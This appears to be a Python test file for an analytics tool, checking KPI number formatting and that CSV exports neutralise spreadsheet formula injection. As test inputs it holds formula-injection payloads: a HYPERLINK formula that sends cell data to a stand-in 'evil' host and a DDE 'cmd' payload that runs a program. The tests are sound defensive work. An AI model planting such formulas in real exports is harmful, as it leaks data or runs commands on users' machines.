"""Terminal formatting of KPI values."""

import pytest

from analytics.output import format_exact


@pytest.mark.parametrize(
    "value,unit,expected",
    [
        (12345, "count", "12,345"),
        (1234.5, "currency", "1,234.50"),
        (0.048, "ratio", "4.8%"),
        (0.0, "ratio", "0.0%"),
        (16 / 60993, "ratio", "0.026%"),
        (None, "ratio", "—"),
        (float("nan"), "count", "—"),
    ],
)
def test_format_exact(value, unit, expected):
    assert format_exact(value, unit) == expected


# --------------------------------------------------------------------------- CSV a spreadsheet cannot run

import csv
import io

import pandas as pd

from analytics.output import neutralise_cell, render_frame, safe_csv_bytes, write_csv


@pytest.mark.parametrize(
    "cell,expected",
    [
        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # Numbers written as text stay numbers; ordinary text is untouched.
        ("-12.5", "-12.5"),
        ("+3e4", "+3e4"),
        ("Mug = cup", "Mug = cup"),
        ("", ""),
        (-7, -7),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_prefixed(cell, expected):
    assert neutralise_cell(cell) == expected


def test_every_cli_csv_and_download_is_neutralised_and_numbers_stay_numbers(tmp_path):
    frame = pd.DataFrame({"title": ["=1+1", "Tea"], "revenue": [-5.0, 12.5], "=header": [1, 2]})

    rows = list(csv.reader(io.StringIO(render_frame(frame, "csv"))))
    assert rows == [["title", "revenue", "'=header"], ["'=1+1", "-5.0", "1"], ["Tea", "12.5", "2"]]
    download = safe_csv_bytes(frame)
    assert download.startswith(b"\xef\xbb\xbf") and download.decode("utf-8-sig") == render_frame(frame, "csv")
    written = write_csv(frame, tmp_path / "out" / "customers.csv")
    assert written.read_text(encoding="utf-8") == render_frame(frame, "csv")
    assert [path.name for path in written.parent.iterdir()] == ["customers.csv"]


def test_an_imported_title_with_a_formula_is_neutralised_in_shoplens_rejects(tmp_path, capsys):
    from analytics.cli import main
    from analytics.importing import get_preset, import_files

    export = tmp_path / "orders_export.csv"
    export.write_text(
        "Name,Email,Financial Status,Created at,Lineitem quantity,Lineitem name,Lineitem price,Lineitem sku,"
        "Lineitem discount\n"
        '#1,a@example.com,paid,2023-01-15 10:23:45 -0500,1,"=HYPERLINK(""http://evil"")",1.00,S1,0\n'
        "#2,b@example.com,paid,not a time,1,@SUM(1),1.00,S2,0\n", encoding="utf-8")
    warehouse = tmp_path / "w.duckdb"
    import_files([export], get_preset("shopify"), warehouse)

    assert main(["rejects", "--warehouse", str(warehouse), "--format", "csv"]) == 0

    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["row_text"].startswith("#2 | b@example.com") and all(
        not cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
